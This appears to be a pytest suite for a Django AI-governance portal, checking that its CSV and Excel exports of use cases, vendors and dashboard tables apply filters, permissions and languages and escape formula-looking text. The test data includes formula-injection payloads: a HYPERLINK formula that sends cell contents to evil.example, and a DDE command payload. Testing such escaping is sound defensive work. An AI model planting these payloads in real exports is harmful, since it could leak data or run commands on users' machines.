"""CSV and Excel exports: the inventory, the vendor registry and every dashboard table.

CSV is streamed with a UTF-8 BOM; Excel is read back with openpyxl. Both must carry the
rows the page shows (filters and scoping applied) and neutralise formula-looking text."""

import codecs
import csv
import datetime
import io
from decimal import Decimal
from urllib.parse import parse_qs

import openpyxl
import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from governance.models import ApprovalStage
from portal.exports import XLSX_TYPE
from portal.models import Department
from tests.dashboard.test_dashboard import build_inventory, make_use_case, matches
from tests.factories import DepartmentFactory, UseCaseFactory, UserFactory, VendorFactory, approved_vendor
from usecases import services as usecase_services
from usecases.choices import RiskTier, RoadmapStep, UseCaseCategory, UseCaseStatus
from usecases.models import BenefitRecord, UseCase
from vendors.choices import VendorStatus

FORMATS = ["csv", "xlsx"]
INVENTORY = {"csv": "usecases:export", "xlsx": "usecases:export-xlsx"}
VENDORS = {"csv": "vendors:export", "xlsx": "vendors:export-xlsx"}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)"]


def read(response, fmt):
    """The rows of an export, every cell as text ('' for an empty cell)."""
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        assert isinstance(response, StreamingHttpResponse) and not isinstance(response, FileResponse)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert body.startswith(codecs.BOM_UTF8)
        return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode("utf-8"), newline="")))
    assert response["Content-Type"] == XLSX_TYPE
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:  # text that looks like a formula is never stored as one
            assert cell.data_type != "f", cell.value
    return [["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def cases(requester, other_requester, reviewer):
    return build_inventory(requester, other_requester, reviewer)


# --- The inventory --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("persona", ["requester", "executive"])
@pytest.mark.parametrize(
    "query",
    [
        "",
        "category=creative",
        "status=submitted&status=draft",
        "department={sales}",
        "since=2025-03-01&until=2025-04-30",
        "risk_tier=limited",
        "style=open",
        "q=営業",
        "ordering=title",
    ],
)
def test_inventory_export_carries_the_rows_of_the_filtered_inventory(
    client, personas, cases, sales, fmt, persona, query
):
    query = query.format(sales=sales.pk)
    client.force_login(personas[persona])
    listed = client.get(reverse("usecases:list") + f"?{query}")
    assert listed.context["paginator"].count <= 25
    expected = [use_case.reference for use_case in listed.context["object_list"]]
    rows = read(client.get(reverse(INVENTORY[fmt]) + f"?{query}"), fmt)
    assert [row[0] for row in rows[1:]] == expected
    assert all(len(row) == len(rows[0]) == 17 for row in rows)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_requester_does_not_get_another_departments_drafts(client, requester, other_requester, cases, fmt):
    sales_draft = UseCase.objects.get(title="営業の下書き")
    sales_submitted = UseCase.objects.get(department=other_requester.department, status="submitted")
    own_draft = UseCase.objects.get(department=requester.department, status="draft")
    client.force_login(requester)
    references = {row[0] for row in read(client.get(reverse(INVENTORY[fmt])), fmt)[1:]}
    assert sales_draft.reference not in references
    assert {sales_submitted.reference, own_draft.reference} <= references
    assert len(references) == 7
    rows = read(client.get(reverse(INVENTORY[fmt]) + f"?department={other_requester.department_id}&status=draft"), fmt)
    assert rows[1:] == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_inventory_export_neutralises_formulas_and_keeps_japanese_text(client, requester, executive, fmt):
    formula_department = DepartmentFactory(code="formula", name="@部署")
    for title in FORMULAS:
        UseCaseFactory(owner=requester, title=title, category="creative")
    UseCaseFactory(owner=UserFactory(department=formula_department), title="営業の分析レポート「月次」")
    client.force_login(executive)
    rows = read(client.get(reverse(INVENTORY[fmt])), fmt)
    assert rows[0][:4] == ["管理番号", "タイトル", "ステータス", "部署"]
    titles = {row[1]: row for row in rows[1:]}
    assert set(titles) == {"'" + title for title in FORMULAS} | {"営業の分析レポート「月次」"}
    assert titles["営業の分析レポート「月次」"][3] == "'@部署"
    assert titles["'" + FORMULAS[0]][3] == "マーケティング部"
    assert titles["'" + FORMULAS[0]][2] == "下書き"


def test_inventory_csv_is_streamed_with_a_bom_and_named_for_download(client, executive, cases):
    client.force_login(executive)
    response = client.get(reverse("usecases:export"))
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert "Content-Length" not in response
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="use-cases-') and disposition.endswith('.csv"')
    chunks = list(response.streaming_content)
    assert chunks[0] == codecs.BOM_UTF8
    assert len(chunks) == 1 + 1 + len(cases)  # BOM, header, one chunk per row
    assert "営業の下書き" in b"".join(chunks).decode("utf-8-sig")


def test_inventory_xlsx_is_an_attachment_with_numbers_as_numbers(client, executive, requester):
    UseCaseFactory(owner=requester, complete=True, title="広告コピー")
    client.force_login(executive)
    response = client.get(reverse("usecases:export-xlsx"), HTTP_ACCEPT_LANGUAGE="en")
    assert 'filename="use-cases-' in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    assert header[:3] == ("Reference", "Title", "Status")
    assert row[1] == "広告コピー" and row[2] == "Draft"
    assert dict(zip(header, row, strict=True))["Requests a month"] == 1000


def test_inventory_xlsx_drops_control_characters_and_keeps_error_codes_as_text(client, executive, requester):
    # Stored before the forms refused them (or imported): XML cannot carry them, and they must
    # not make the export fail; tabs and line breaks are kept.
    UseCaseFactory(owner=requester, title="ベル\x07と\x1bエスケープ\tタブ\r\n改行\x0b")
    UseCaseFactory(owner=requester, title="#N/A")
    client.force_login(executive)
    response = client.get(reverse("usecases:export-xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    titles = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert set(titles) == {"ベルとエスケープ\tタブ\r\n改行", "#N/A"}
    assert titles["#N/A"].data_type == "s"  # text someone typed, not Excel's error value


def test_openpyxl_writes_through_lxml():
    # Without lxml (requirements.txt) openpyxl falls back to ElementTree, about 2.5 times slower.
    assert openpyxl.LXML


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("query", ["since=not-a-date", "department=abc", "status=nope", "risk_tier=extreme"])
def test_inventory_export_with_an_invalid_filter_has_no_rows(client, executive, cases, fmt, query):
    client.force_login(executive)
    rows = read(client.get(reverse(INVENTORY[fmt]) + f"?{query}"), fmt)
    assert len(rows) == 1 and rows[0][0] == "管理番号"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("persona", "expected"), [("outsider", 403), ("anonymous", 302), ("reviewer", 200)])
def test_inventory_export_needs_a_role(client, personas, fmt, persona, expected):
    if personas[persona]:
        client.force_login(personas[persona])
    assert client.get(reverse(INVENTORY[fmt])).status_code == expected


# --- The vendor registry ---------------------------------------------------------------------------


@pytest.fixture
def vendors(db):
    return [
        approved_vendor(name="承認済みベンダー"),
        approved_vendor(name="条件付きベンダー", level="internal"),
        VendorFactory(name="=cmd|' /C calc'!A0", kind="open_weights"),
        VendorFactory(name="候補ベンダー"),
    ]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("persona", "expected"),
    [
        ("requester", 200),
        ("reviewer", 200),
        ("executive", 200),
        ("admin", 200),
        ("outsider", 403),
        ("anonymous", 302),
    ],
)
def test_vendor_export_follows_the_view_permission(client, personas, vendors, fmt, persona, expected):
    """VendorExportView needs vendors.view_vendor, which every role holds (requesters too)."""
    if personas[persona]:
        client.force_login(personas[persona])
    response = client.get(reverse(VENDORS[fmt]))
    assert response.status_code == expected
    if expected == 200:
        assert len(read(response, fmt)) == 1 + len(vendors)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("query", "names"),
    [
        ("status=approved", ["承認済みベンダー", "条件付きベンダー"]),
        ("q=候補", ["候補ベンダー"]),
        ("kind=open_weights", ["'=cmd|' /C calc'!A0"]),
        ("approved_level=internal", ["条件付きベンダー"]),
        ("status=prospective&ordering=-name", ["'=cmd|' /C calc'!A0", "候補ベンダー"]),
        ("reassessment_due_within=abc", []),
    ],
)
def test_vendor_export_is_filtered_like_the_registry(client, requester, vendors, fmt, query, names):
    client.force_login(requester)
    rows = read(client.get(reverse(VENDORS[fmt]) + f"?{query}"), fmt)
    assert rows[0][:3] == ["名称", "種別", "ステータス"]
    assert sorted(row[0] for row in rows[1:]) == sorted(names)
    page = client.get(reverse("vendors:list") + f"?{query}")
    assert {vendor.name for vendor in page.context["object_list"]} == {name.removeprefix("'") for name in names}
    status = {row[0]: row[2] for row in rows[1:]}
    if "承認済みベンダー" in status:
        assert status["承認済みベンダー"] == "承認済み"


# --- Dashboard tables -----------------------------------------------------------------------------------


def export(client, table, fmt, query="", language="en"):
    url = reverse("dashboard-export", args=[table, fmt]) + (f"?{query}" if query else "")
    return client.get(url, HTTP_ACCEPT_LANGUAGE=language)


def summary_rows(cases, table, params):
    """A summary table computed from the fixture records (labels in English)."""
    chosen = [case for case in cases if matches(case, params)]
    if table == "roadmap-step":  # steps count use cases in progress, as the roadmap page does
        chosen = [case for case in chosen if case.status not in ("rejected", "withdrawn", "retired")]
    with translation.override("en"):
        choices = {
            "status": ("status", UseCaseStatus.choices),
            "roadmap-step": ("step", RoadmapStep.choices),
            "category": ("category", [*UseCaseCategory.choices, ("", "Not set")]),
            "style": (
                "style",
                [("closed", "Closed AI"), ("open", "Open model"), ("hybrid", "Hybrid"), ("", "Not set")],
            ),
            "risk-tier": ("tier", [*RiskTier.choices, ("", "Not set")]),
        }
        attribute, labels = choices[table]
        return [[str(label), sum(getattr(case, attribute) == key for case in chosen)] for key, label in labels]


SUMMARY_HEADERS = {
    "status": ["Status", "Use cases"],
    "roadmap-step": ["Roadmap step", "Use cases"],
    "category": ["Category", "Use cases"],
    "department": ["Department", "Use cases"],
    "style": ["Style", "Use cases"],
    "risk-tier": ["Risk tier", "Use cases"],
}


def as_text(rows):
    return [["" if value is None else str(value) for value in row] for row in rows]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("table", ["status", "roadmap-step", "category", "style", "risk-tier", "department"])
@pytest.mark.parametrize("query", ["", "department={sales}", "category=creative&since=2025-02-01&until=2025-12-31"])
def test_summary_tables_export_with_the_dashboards_filters(client, executive, cases, sales, fmt, table, query):
    query = query.format(sales=sales.pk)
    client.force_login(executive)
    response = export(client, table, fmt, query)
    rows = read(response, fmt)
    assert f'filename="adoption-{table}-' in response["Content-Disposition"]
    assert rows[0] == SUMMARY_HEADERS[table]
    params = parse_qs(query)
    if table == "department":
        chosen = [case for case in cases if matches(case, params)]
        departments = {case.department for case in chosen}
        names = dict(Department.objects.filter(pk__in=departments).values_list("pk", "name_en"))  # English page
        expected = [[names[pk], sum(case.department == pk for case in chosen)] for pk in departments]
        assert sorted(rows[1:]) == sorted(as_text(expected))
    else:
        assert rows[1:] == as_text(summary_rows(cases, table, params))
    dashboard = client.get(reverse("dashboard") + f"?{query}")  # the page shows the same figures
    shown = dashboard.context["summary"]["by_roadmap_step" if table == "roadmap-step" else "by_status"]
    assert sum(int(row[1]) for row in rows[1:]) == sum(row["count"] for row in shown)


@pytest.mark.parametrize("fmt", FORMATS)
def test_approvals_table_export(client, executive, requester, other_requester, fmt):
    mine = UseCaseFactory(owner=requester, complete=True)
    theirs = UseCaseFactory(owner=other_requester, complete=True)
    usecase_services.submit(mine, requester)
    usecase_services.submit(theirs, other_requester)
    ApprovalStage.objects.filter(use_case=theirs).update(due_on=datetime.date(2020, 1, 1))
    stages = ApprovalStage.objects.active()
    groups = sorted({stage.group.name for stage in stages})
    assert groups
    client.force_login(executive)
    rows = read(export(client, "approvals", fmt), fmt)
    assert rows[0] == ["Review group", "Waiting", "Overdue"]
    assert rows[1:] == as_text(
        [
            [
                group,
                stages.filter(group__name=group).count(),
                stages.filter(group__name=group, use_case=theirs).count(),
            ]
            for group in groups
        ]
    )
    rows = read(export(client, "approvals", fmt, f"department={requester.department_id}"), fmt)
    assert [row[2] for row in rows[1:]] == ["0"] * len(rows[1:]) and rows[1:]


@pytest.mark.parametrize("fmt", FORMATS)
def test_vendors_table_export_is_organisation_wide(client, executive, vendors, marketing, fmt):
    client.force_login(executive)
    with translation.override("en"):
        labels = [str(label) for _value, label in VendorStatus.choices]
    counts = {"Prospective": 2, "Approved": 2}
    for query in ("", f"department={marketing.pk}"):
        rows = read(export(client, "vendors", fmt, query), fmt)
        assert rows[0] == ["Status", "Vendors"]
        assert rows[1:] == as_text([[label, counts.get(label, 0)] for label in labels])


@pytest.fixture
def july_2025(monkeypatch):
    """The ROI period is the 12 months to the current one: July 2025 here (August 2024 to July 2025)."""
    monkeypatch.setattr("usecases.returns.this_month", lambda: datetime.date(2025, 7, 1))


def cost_fixture(cases, requester, marketing, sales, *, sales_benefit=0):
    UseCase.objects.filter(department=marketing, status="approved").update(estimated_closed_cost=100)
    UseCase.objects.filter(department=marketing, status="in_production").update(estimated_self_hosted_cost=250)
    UseCase.objects.filter(department=sales, status="piloting").update(estimated_closed_cost=40)
    live = UseCase.objects.get(department=marketing, status="in_production")
    BenefitRecord.objects.create(use_case=live, month=datetime.date(2025, 4, 1), cost_saved=1000, recorded_by=requester)
    if sales_benefit:
        piloting = UseCase.objects.get(department=sales, status="piloting")
        BenefitRecord.objects.create(
            use_case=piloting, month=datetime.date(2025, 5, 1), cost_saved=sales_benefit, recorded_by=requester
        )


def money(rows):
    """Cost rows with the amounts as Decimals (the text of a Decimal depends on its scale)."""
    return [[row[0], *[Decimal(cell) if cell else None for cell in row[1:]]] for row in rows]


@pytest.mark.parametrize("fmt", FORMATS)
def test_cost_value_table_export(client, executive, cases, requester, marketing, sales, fmt, july_2025):
    cost_fixture(cases, requester, marketing, sales)
    client.force_login(executive)
    rows = read(export(client, "cost-value", fmt), fmt)
    assert rows[0] == [
        "Department",
        "Closed AI",
        "Self-hosted",
        "Other",
        "Total a month",
        "Benefit recorded",
        "Cost over the period",
        "ROI (%)",
    ]
    # marketing: 100 closed approved in January (7 months) + 250 self-hosted approved in March (5 months);
    # 1000 saved: ROI (1000 - 1950) / 1950. Sales: 40 from April (4 months), no benefit: no ROI.
    expected = {  # the English names, as the export is in English
        "Marketing": ["Marketing", 100, 250, 0, 350, 1000, 1950, Decimal("-48.7")],
        "Sales": ["Sales", 40, 0, 0, 40, 0, 160, None],
    }
    assert sorted(money(rows[1:])) == sorted(expected.values())
    rows = read(export(client, "cost-value", fmt, f"department={sales.pk}"), fmt)
    assert money(rows[1:]) == [expected["Sales"]]
    japanese = read(export(client, "cost-value", fmt, f"department={sales.pk}", language="ja"), fmt)
    assert japanese[0][0] == "部署" and japanese[1][0] == "営業部"


def test_cost_value_export_keeps_a_negative_roi_a_number(
    client, executive, cases, requester, marketing, sales, july_2025
):
    """Numbers (Decimals included) stay numbers: a loss-making department's ROI "-87.5" is not
    mistaken for a formula and quoted, and amounts are number cells in Excel."""
    cost_fixture(cases, requester, marketing, sales, sales_benefit=20)
    client.force_login(executive)
    query = f"department={sales.pk}"
    assert read(export(client, "cost-value", "csv", query), "csv")[1][7] == "-87.5"  # (20 - 40 x 4) / (40 x 4)
    sheet = load_workbook(io.BytesIO(b"".join(export(client, "cost-value", "xlsx", query).streaming_content)))
    assert list(sheet.worksheets[0].iter_rows(values_only=True))[1][1:] == (40, 0, 0, 40, 20, 160, -87.5)


def education_fixture(admin_user, requester, marketing, sales):
    from tests.governance.education_helpers import ago, completed, course, policy, publish

    publish(policy(admin_user, departments=[sales]), admin_user)
    completed(course(admin_user, departments=[marketing]), requester, admin_user, ago(3))


def figures(rows):
    """Education rows with the numbers as numbers (Excel gives 100 for 100.0)."""
    return [[title, department, int(total), int(done), float(rate)] for title, department, total, done, rate in rows]


@pytest.mark.parametrize("fmt", FORMATS)
def test_education_table_export(client, executive, admin_user, requester, other_requester, marketing, sales, fmt):
    education_fixture(admin_user, requester, marketing, sales)
    client.force_login(executive)
    rows = read(export(client, "education", fmt), fmt)
    assert rows[0] == ["Policy or course", "Department", "People", "Done", "Rate (%)"]
    assert [row[0] for row in rows[1:]] == ["Policy usage-rules", "Course ai-literacy"]
    rows = read(export(client, "education", fmt, language="ja"), fmt)
    assert rows[0][1] == "部署"
    assert figures(rows[1:]) == [
        ["usage-rules規程", "営業部", 1, 0, 0.0],
        ["ai-literacy研修", "マーケティング部", 1, 1, 100.0],
    ]
    # The department filter keeps that department's rows only.
    rows = read(export(client, "education", fmt, f"department={marketing.pk}", language="ja"), fmt)
    assert figures(rows[1:]) == [["ai-literacy研修", "マーケティング部", 1, 1, 100.0]]


def test_education_export_names_departments_in_the_readers_language(
    client, executive, admin_user, requester, other_requester, marketing, sales
):
    """The education rows name departments in the reader's language, like every other table."""
    education_fixture(admin_user, requester, marketing, sales)
    client.force_login(executive)
    rows = read(export(client, "education", "csv"), "csv")
    assert [row[1] for row in rows[1:]] == ["Sales", "Marketing"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_trend_table_export(client, executive, cases, marketing, fmt, july_2025):
    client.force_login(executive)
    rows = read(export(client, "trend", fmt), fmt)
    assert rows[0] == ["Month", "Created", "Approved", "In production", "Retired"]
    assert rows[1:] == as_text(
        [
            ["2025-01", 1, 1, 0, 0],
            ["2025-02", 1, 0, 0, 0],
            ["2025-03", 2, 1, 1, 0],
            ["2025-04", 1, 1, 0, 0],
            ["2025-05", 1, 0, 0, 0],
            ["2025-06", 2, 1, 0, 1],
            ["2025-07", 0, 0, 0, 0],  # every month to the current one
        ]
    )
    query = f"department={marketing.pk}&since=2025-03-01&until=2025-03-31"
    assert read(export(client, "trend", fmt, query), fmt)[1:] == [["2025-03", "1", "1", "1", "0"]]


def test_dashboard_table_headers_follow_the_language(client, executive, cases):
    client.force_login(executive)
    assert read(export(client, "status", "csv", language="ja"), "csv")[0] == ["ステータス", "ユースケース"]
    rows = read(export(client, "status", "xlsx", language="ja"), "xlsx")
    assert ["下書き", "2"] in rows


@pytest.mark.parametrize(
    "path",
    [
        "/dashboard/export/nonsense.csv",
        "/dashboard/export/status.pdf",
        "/dashboard/export/status.CSV",
        "/dashboard/export/status",
    ],
)
def test_unknown_dashboard_table_or_format_is_404(client, executive, path):
    client.force_login(executive)
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("query", "field"),
    [("since=yesterday", "since"), ("department=abc", "department"), ("category=nope", "category")],
)
def test_dashboard_export_with_an_invalid_filter_is_400_with_a_message(client, executive, fmt, query, field):
    client.force_login(executive)
    response = export(client, "status", fmt, query)
    assert response.status_code == 400
    text = response.content.decode()
    assert text.startswith(f"{field}: ") and len(text) > len(field) + 5


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("persona", "expected"),
    [("requester", 403), ("outsider", 403), ("anonymous", 302), ("reviewer", 200), ("admin", 200)],
)
def test_dashboard_exports_are_for_those_who_see_the_dashboard(client, personas, fmt, persona, expected):
    if personas[persona]:
        client.force_login(personas[persona])
    for table in ("status", "cost-value", "education"):
        assert export(client, table, fmt).status_code == expected


def test_dashboard_export_counts_what_the_executive_sees_not_only_submitted(client, executive, requester):
    make_use_case(requester, datetime.date(2025, 1, 5))
    client.force_login(executive)
    assert ["Draft", "1"] in read(export(client, "status", "csv"), "csv")
